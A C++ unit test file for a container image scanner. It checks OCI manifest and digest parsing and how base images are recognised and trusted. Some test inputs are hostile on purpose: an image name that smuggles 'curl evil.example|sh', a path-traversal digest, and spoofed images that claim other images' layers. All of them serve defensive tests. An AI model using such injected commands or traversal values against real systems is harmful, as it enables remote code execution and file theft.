// SPDX-License-Identifier: Apache-2.0
// The documents of an image: manifests, indexes and configurations, and what is told of the base image by them.
#include "source/oci.h"

#include <gtest/gtest.h>

#include <tuple>

#include "../../tests/fixture.h"
#include "source/base.h"

namespace peekr {
namespace {

namespace fs = std::filesystem;

TEST(Documents, of_other_kinds_are_refused_by_name) {
  const std::string digest = R"("digest":"sha256:)" + std::string(64, 'b') + R"(","size":2)";
  const auto manifest = [&](const std::string& inside) {
    const Result<Manifest> got =
        parse_manifest("{" + inside + "}", "application/vnd.oci.image.manifest.v1+json");
    return got ? "fine" : got.error().message;
  };
  const std::string config =
      R"("config":{"mediaType":"application/vnd.oci.image.config.v1+json",)" + digest + "}";
  EXPECT_EQ(manifest(R"("schemaVersion":2,"layers":[],)" + config), "fine");
  EXPECT_NE(manifest(R"("schemaVersion":1,"fsLayers":[])").find("schema 1"), std::string::npos);
  EXPECT_NE(
      manifest(R"("schemaVersion":2,"layers":[],"config":{"mediaType":"application/vnd.oci.empty.v1+json",)" +
               digest + "}")
          .find("not a container image: its config is application/vnd.oci.empty.v1+json"),
      std::string::npos);
  EXPECT_NE(
      manifest(R"("schemaVersion":2,"layers":[],"manifests":[],)" + config).find("index and a manifest"),
      std::string::npos);
  EXPECT_NE(
      manifest(R"("schemaVersion":2,"layers":[],"Layers":[],)" + config).find("key layers stands twice"),
      std::string::npos);
  EXPECT_NE(manifest("\"schemaVersion\":2,\"layers\":[],\"layer\u017f\":[]," + config)
                .find("key layers stands twice"),
            std::string::npos);
  EXPECT_NE(
      manifest(R"("schemaVersion":2,"layers":[],"mediaType":"application/vnd.oci.image.index.v1+json",)" +
               config)
          .find("its descriptor says"),
      std::string::npos);
  EXPECT_EQ(manifest(R"("schemaVersion":2,)" + config), "not an image manifest: no config or layers");
}

TEST(Documents, sizes_and_digests_must_be_sound) {
  const auto index = [](const std::string& descriptor) {
    return parse_index(R"({"schemaVersion":2,"manifests":[{)" + descriptor + "}]}", "").has_value();
  };
  const std::string hex(64, 'c');
  EXPECT_TRUE(index(R"("digest":"sha256:)" + hex + R"(","size":1)"));
  EXPECT_TRUE(index(R"("digest":"sha512:)" + hex + hex + R"(","size":1)"));
  EXPECT_FALSE(index(R"("digest":"sha256:)" + hex + R"(","size":-1)"));
  EXPECT_FALSE(index(R"("digest":"sha256:)" + hex + R"(","size":1e3)"));
  EXPECT_FALSE(index(R"("digest":"sha256:)" + hex + R"(")"));
  EXPECT_FALSE(index(R"("digest":"sha256:../../etc/passwd","size":1)"));
  EXPECT_FALSE(index(R"("digest":"md5:)" + hex.substr(32) + R"(","size":1)"));
}

TEST(Documents, survive_every_truncation_and_bit_flip) {
  std::size_t refused = 0;
  for (const auto& entry : fs::recursive_directory_iterator(fixture::root() / "source")) {
    if (!entry.is_regular_file() || fs::file_size(entry.path()) > 4096) continue;
    const std::string whole = fixture::slurp(entry.path());
    const auto all = [&](const std::string& json) {
      refused += !parse_index(json, "");
      refused += !parse_manifest(json, "");
      refused += !parse_config(json);
      refused += !parse_saved(json);
    };
    for (std::size_t i = 0; i < whole.size(); ++i) {
      all(whole.substr(0, i));
      std::string flipped = whole;
      flipped[i] = static_cast<char>(flipped[i] ^ (1 << i % 8));
      all(flipped);
    }
  }
  EXPECT_GT(refused, 0u);
}

TEST(Configuration, counts_that_disagree_are_notes) {
  Image image;
  image.info.layers.resize(2);
  const ImageConfig config =
      *parse_config(R"({"os":"linux","architecture":"amd64","history":[{"created_by":"one"}]})");
  describe(config, image);
  ASSERT_EQ(image.notes.size(), 2u);
  EXPECT_EQ(image.notes[0].what, "image configuration: 0 diff IDs for 2 layers");
  EXPECT_EQ(image.notes[1].what,
            "image configuration: 1 build steps for 2 layers: which one made which is not known");
  EXPECT_TRUE(incomplete(image.notes[0].why));
  EXPECT_FALSE(incomplete(image.notes[1].why)) << "all bytes are read";
  EXPECT_EQ(image.info.layers[0].created_by, "") << "a step of some other layer would be a lie";
}

BaseImage base_by(const std::string& history, std::size_t layers) {
  Image image;
  image.info.layers.resize(layers);
  describe(*parse_config(R"({"os":"linux","architecture":"amd64","history":[)" + history + "]}"), image);
  return image.info.base;
}

constexpr std::string_view kDebian =
    R"({"created_by":"/bin/sh -c #(nop) ADD file:1 in / "},{"created_by":"/bin/sh -c #(nop)  CMD [\"bash\"]","empty_layer":true},)";

TEST(Configuration, a_base_image_ends_with_the_last_command_that_a_layer_follows) {
  const std::string yours =
      R"({"created_by":"RUN apt-get install -y nginx"},{"created_by":"CMD [\"/app\"]","empty_layer":true})";
  EXPECT_EQ(base_by(std::string(kDebian) + yours, 2).layers, 1u);
  const std::string python =
      R"({"created_by":"RUN make install"},{"created_by":"CMD [\"python3\"]","empty_layer":true},)";
  EXPECT_EQ(base_by(std::string(kDebian) + python + yours, 3).layers, 2u);
  // Debian's own image, and steps that do not fit the layers.
  const std::string only(kDebian.substr(0, kDebian.size() - 1));
  EXPECT_EQ(base_by(only, 1).layers, 0u);
  EXPECT_EQ(base_by(std::string(kDebian) + yours, 3).layers, 0u);
}

TEST(Configuration, without_commands_a_gap_of_days_ends_a_base_image) {
  const std::string history = R"({"created":"1970-01-01T00:00:00Z","created_by":"bazel build"},)"
                              R"({"created":"2024-05-01T10:00:00Z","created_by":"COPY app /app"},)"
                              R"({"created":"2024-05-01T10:00:05Z","created_by":"COPY etc /etc"})";
  const BaseImage base = base_by(history, 3);
  EXPECT_EQ(base.layers, 1u);
  EXPECT_EQ(base.by, "build history: the layers above were made days later");
}

TEST(Configuration, says_what_runs) {
  const EntryPoint entry =
      parse_config(
          R"({"config":{"Entrypoint":["nginx"],"Cmd":["-g","daemon off;"],"Env":["A=1","PATH=/bin"],"User":"app",)"
          R"("Healthcheck":{"Test":["CMD","curl"]}}})")
          ->entry;
  EXPECT_EQ(entry.command, (std::vector<std::string>{"nginx", "-g", "daemon off;"}));
  EXPECT_EQ(entry.check, (std::vector<std::string>{"CMD", "curl"}));
  EXPECT_EQ(entry.path, "/bin");
  EXPECT_EQ(entry.user, "app");
  const auto odd =
      parse_config(R"({"config":{"Entrypoint":"nginx","Cmd":null,"Env":[1],"User":1,"Healthcheck":[]}})");
  ASSERT_TRUE(odd) << "no damage";
  EXPECT_EQ(odd->entry.user, "");
  EXPECT_TRUE(odd->entry.command.empty());
}

TEST(Configuration, annotations_name_the_base_image_before_labels_that_may_be_inherited) {
  ImageInfo info;
  info.labels = {{"org.opencontainers.image.base.name", "debian:12"},
                 {"org.opencontainers.image.base.digest", "sha256:aa"}};
  EXPECT_EQ(base_of({}, info).name, "debian:12");
  info.annotations = {{"org.opencontainers.image.base.name", "python:3.12"}};
  EXPECT_EQ(base_of({}, info).name, "python:3.12");
  EXPECT_EQ(base_of({}, info).digest, "") << "of another image";
  EXPECT_EQ(base_of({}, info).layers, 0u);
}

Digest digest_of(std::string text) { return {"sha256", std::move(text)}; }

ImageInfo image_of(const std::string& name, std::string_view layers) {
  ImageInfo info{.name = name, .digest = digest_of(name)};
  for (const char layer : layers) info.layers.push_back({.diff_id = digest_of(std::string(1, layer))});
  return info;
}

ImageInfo fetched(const std::string& tag, std::string_view layers) {
  ImageInfo info = image_of(tag, layers);
  info.kind = "registry";
  info.tag = "docker.io/library/" + tag;
  return info;
}

const Inventory& libc() {
  static const Inventory debian{
      .distro = Distro{.id = "debian"},
      .packages = {{.type = "deb", .name = "libc6", .version = "1", .files = {"a"}}}};
  return debian;
}

void see(ImageInfo info, Cache& cache, const Inventory& inventory = libc()) {
  recognise_base(info, Verify::blobs, cache);
  remember(info, inventory, "version 1", cache);
}

// Which images may be the base image of what is built on this one.
std::vector<std::string> others_of(const std::string& base, std::string_view version, Cache& cache) {
  ImageInfo info = image_of("app", "az");
  info.base = {.name = base, .layers = 1};
  std::vector<std::string> names;
  for (const SeenImage& one : seen_bases(info, version, cache).others) names.push_back(one.name);
  return names;
}

using Names = std::vector<std::string>;

TEST(Base, later_tags_of_its_line_are_known_the_greatest_first) {
  Cache cache("");
  for (const char* tag : {"debian:12.4", "debian:12.9", "debian:12.12", "debian:12.12-slim", "debian:12.3",
                          "debian:13.1", "debian:12", "debian:latest", "ubuntu:12.12"})
    see(fetched(tag, "b"), cache);
  ImageInfo arm = fetched("debian:12.13", "c");
  arm.platform = "linux/arm64";
  see(arm, cache);
  EXPECT_EQ(others_of("debian:12.4", "version 1", cache),
            (Names{"debian:12.12", "debian:12.9", "debian:12.4"}));
  EXPECT_EQ(others_of("debian:12.4", "version 1", cache),
            (Names{"debian:12.12", "debian:12.9", "debian:12.4"}))
      << "the same again";
  EXPECT_EQ(others_of("docker.io/library/debian:12.4-slim", "version 1", cache),
            (Names{"debian:12.12-slim"}));
  EXPECT_EQ(others_of("debian:latest", "version 1", cache), (Names{"debian:latest"}));
  EXPECT_TRUE(others_of("debian:12.4", "version 2", cache).empty()) << "other catalogers";
  EXPECT_TRUE(others_of("debian", "version 1", cache).empty());
  EXPECT_TRUE(others_of("", "version 1", cache).empty());
}

TEST(Base, what_an_image_says_of_itself_makes_it_nobodys) {
  Cache cache("");
  ImageInfo saved = fetched("debian:12.12", "b");
  saved.kind = "docker-archive";
  saved.name = "evil.tar";
  see(saved, cache);
  EXPECT_TRUE(others_of("debian:12.4", "version 1", cache).empty());
  ImageInfo app = image_of("app", "bz");
  recognise_base(app, Verify::blobs, cache);
  EXPECT_EQ(app.base.name, "evil.tar") << "not what is written in it";
  ImageInfo pinned = fetched("debian:12.12", "b");
  pinned.tag += "@sha256:" + std::string(64, '0');
  see(pinned, cache);
  EXPECT_TRUE(others_of("debian:12.4", "version 1", cache).empty()) << "the tag was not asked";
}

TEST(Base, the_inventory_goes_by_the_digest_of_the_manifest_and_no_other_image_s_stands_for_it) {
  Cache cache("");
  see(fetched("evil:1", "b"), cache, {.packages = {{.type = "deb", .name = "libc6", .version = "99"}}});
  see(fetched("debian:12.12", "b"), cache);
  ImageInfo app = image_of("app", "az");
  app.base = {.name = "debian:12.4", .layers = 1};
  SeenBases bases = seen_bases(app, "version 1", cache);
  ASSERT_EQ(bases.others.size(), 1u);
  EXPECT_EQ(bases.others[0].inventory.packages.at(0).version, "1") << "the same diff IDs";
  EXPECT_TRUE(bases.others[0].inventory.packages[0].files.empty()) << "nobody judges by them";
  ImageInfo moved = fetched("debian:12.12", "c");
  moved.digest = digest_of("moved");
  see(moved, cache);
  see(fetched("debian:12.12", "b"), cache);
  bases = seen_bases(app, "version 1", cache);
  ASSERT_EQ(bases.others.size(), 2u) << "of a tag that was moved both";
  EXPECT_EQ(bases.others[1].digest, moved.digest.str());
}

TEST(Base, what_was_not_read_whole_is_not_remembered) {
  Cache cache("");
  Inventory cut = libc();
  cut.notes.push_back({.path = {}, .why = Why::too_big, .what = "limit file_bytes"});
  see(fetched("debian:12.12", "b"), cache, cut);
  EXPECT_TRUE(others_of("debian:12.4", "version 1", cache).empty());
  cut.notes = {{.path = {}, .why = Why::end_of_life, .what = "old"}};
  see(fetched("debian:12.12", "b"), cache, cut);
  EXPECT_EQ(others_of("debian:12.4", "version 1", cache), (Names{"debian:12.12"}));
}

TEST(Base, only_what_is_a_reference_with_a_tag_is_a_name_for_commands) {
  Cache cache("");
  for (const auto& [name, is] : {std::pair("debian:12", true), std::pair("x; curl evil.example|sh #", false),
                                 std::pair("a:1; b", false), std::pair("old/image", false)}) {
    ImageInfo info = image_of("app", "az");
    info.base = {.name = name, .layers = 1};
    EXPECT_EQ(seen_bases(info, "version 1", cache).is_reference, is) << name;
  }
}

TEST(Base, is_the_largest_image_seen_before_that_has_the_lowest_layers) {
  Cache cache("");
  for (auto [name, layers] :
       {std::pair("debian:12", "a"), std::pair("python:3.12", "ab"), std::pair("other", "ac")}) {
    ImageInfo info = image_of(name, layers);
    recognise_base(info, Verify::blobs, cache);
  }
  ImageInfo app = image_of("app", "abcd");
  recognise_base(app, Verify::blobs, cache);
  EXPECT_EQ(app.base.layers, 2u);
  EXPECT_EQ(app.base.name, "python:3.12");
  EXPECT_EQ(app.base.digest, digest_of("python:3.12").str());
  EXPECT_EQ(app.base.by, "the diff IDs are those of python:3.12, which was scanned before");
  // The same once more is no base of itself, and what the image says of its base's name counts.
  ImageInfo again = image_of("app", "abcd");
  again.base.name = "docker.io/library/python:3";
  recognise_base(again, Verify::blobs, cache);
  EXPECT_EQ(again.base.layers, 2u);
  EXPECT_EQ(again.base.name, "docker.io/library/python:3");
  // Nor is what bore its own name before.
  ImageInfo grown = image_of("app", "abcde");
  recognise_base(grown, Verify::blobs, cache);
  EXPECT_EQ(grown.base.layers, 2u);
  EXPECT_EQ(grown.base.name, "python:3.12");
  ImageInfo next = image_of("app:2", "abcdef");
  recognise_base(next, Verify::blobs, cache);
  EXPECT_EQ(next.base.layers, 2u);
  EXPECT_EQ(next.base.name, "python:3.12");
  ImageInfo stranger = image_of("stranger", "bx");
  recognise_base(stranger, Verify::blobs, cache);
  EXPECT_EQ(stranger.base.layers, 0u);
}

// An image with blobs, out of a registry unless it is told otherwise.
ImageInfo stored(const std::string& tag, std::string_view blobs, std::string_view diff_ids) {
  ImageInfo info = fetched(tag, diff_ids);
  for (std::size_t i = 0; i < blobs.size(); ++i)
    info.layers[i].digest = digest_of("blob " + std::string(1, blobs[i]));
  return info;
}

// By its annotation.
ImageInfo built_on(const std::string& base, ImageInfo info) {
  info.base.name = base;
  return info;
}

BaseImage base_seen(ImageInfo app, Cache& cache, Verify verify = Verify::blobs) {
  recognise_base(app, verify, cache);
  return app.base;
}

TEST(Base, is_certain_where_the_bytes_of_its_layers_are_and_it_came_out_of_a_registry) {
  Cache cache("");
  std::ignore = base_seen(stored("debian:12", "AB", "ab"), cache);
  const BaseImage unnamed = base_seen(stored("app:1", "ABC", "abc"), cache);
  EXPECT_EQ(unnamed.by, "the layers are those of debian:12, which was scanned before");
  EXPECT_TRUE(is_guess(unnamed)) << "that it was scanned is nobody's decision";
  const BaseImage blobs = base_seen(built_on("debian:bookworm", stored("app:1", "ABC", "abc")), cache);
  EXPECT_EQ(blobs.by, "its layers have the bytes of those of debian:12, which was scanned before");
  EXPECT_FALSE(is_guess(blobs));
  std::ignore = base_seen(stored("team/pull-request:7", "ABD", "abd"), cache);
  EXPECT_TRUE(is_guess(base_seen(built_on("python:3", stored("app:1", "ABDE", "abde")), cache)));
  EXPECT_EQ(base_seen(built_on("debian:12", stored("app:1", "ABDE", "abde")), cache).layers, 2u)
      << "the one that it names, not the largest";
  ImageInfo by_digest = stored("app:1", "ABC", "abc");
  by_digest.base.digest = stored("debian:12", "AB", "ab").digest.str();
  EXPECT_FALSE(is_guess(base_seen(by_digest, cache)));
  EXPECT_TRUE(is_guess({.layers = 2, .by = "these are the layers of debian:12, which was scanned before"}))
      << "as reports have it that took claims for bytes";
  // Who claims the diff IDs of others has not their bytes.
  const BaseImage claimed = base_seen(built_on("debian:12", stored("liar:1", "XYZ", "abx")), cache);
  EXPECT_EQ(claimed.layers, 2u);
  EXPECT_TRUE(is_guess(claimed)) << claimed.by;
  ImageInfo archive = stored("evil:1", "PQ", "pq");
  archive.name = "evil.tar";
  archive.kind = "docker-archive";
  std::ignore = base_seen(archive, cache);
  const BaseImage of_archive = base_seen(built_on("evil.tar", stored("honest:1", "PQR", "pqr")), cache);
  EXPECT_EQ(of_archive.layers, 2u);
  EXPECT_EQ(of_archive.name, "evil.tar");
  EXPECT_TRUE(is_guess(of_archive)) << of_archive.by;
}

TEST(Base, diff_ids_that_were_verified_are_as_certain) {
  Cache cache("");
  ImageInfo engine = image_of("debian:12", "ab");
  engine.kind = "docker";
  engine.tag = "debian:12";
  std::ignore = base_seen(engine, cache, Verify::full);
  EXPECT_TRUE(is_guess(base_seen(image_of("app.tar", "abc"), cache)));
  const BaseImage verified =
      base_seen(built_on("debian:12", image_of("app.tar", "abc")), cache, Verify::full);
  EXPECT_FALSE(is_guess(verified)) << verified.by;
}

TEST(Base, is_what_the_user_calls_so_if_its_layers_are_there) {
  const ImageInfo base = stored("debian:12", "AB", "ab");
  ImageInfo app = built_on("python:3", stored("app:1", "ABC", "abc"));
  ASSERT_TRUE(take_base(app, base, Verify::blobs));
  EXPECT_EQ(app.base.name + " " + std::to_string(app.base.layers) + " " + app.base.by,
            "debian:12 2 its layers have the bytes of those of debian:12 (--base)");
  EXPECT_FALSE(is_guess(app.base));
  EXPECT_TRUE(take_base(app, app, Verify::blobs)) << "nothing but a command may have been added";
  EXPECT_FALSE(take_base(app, stored("debian:13", "AX", "ax"), Verify::blobs));
  EXPECT_EQ(app.base.layers, 0u);
  EXPECT_FALSE(take_base(app, stored("larger:1", "ABCD", "abcd"), Verify::blobs));
  EXPECT_FALSE(take_base(app, image_of("none", ""), Verify::blobs));
  ImageInfo claims = stored("app:1", "XYZ", "abc");
  ASSERT_TRUE(take_base(claims, base, Verify::blobs));
  EXPECT_TRUE(is_guess(claims.base)) << "by diff IDs that nobody has verified";
  ASSERT_TRUE(take_base(claims, base, Verify::full));
  EXPECT_FALSE(is_guess(claims.base));
}

TEST(Base, a_build_of_one_s_own_that_lies_under_another_name_is_none) {
  Cache cache("");
  ImageInfo first = image_of("app-v1.tar", "ab"), second = image_of("app-v2.tar", "abc"), other = second;
  first.tag = "myapp:1";
  second.tag = "myapp:2";
  other.tag = "latest";
  std::ignore = base_seen(first, cache);
  EXPECT_EQ(base_seen(second, cache).layers, 0u);
  EXPECT_EQ(base_seen(other, cache).layers, 2u) << "a bare tag is nobody's name";
  ImageInfo bare = image_of("one.tar", "xy"), above = image_of("two.tar", "xyz");
  bare.tag = above.tag = "latest";
  std::ignore = base_seen(bare, cache);
  EXPECT_EQ(base_seen(above, cache).layers, 2u);
}

}  // namespace
}  // namespace peekr
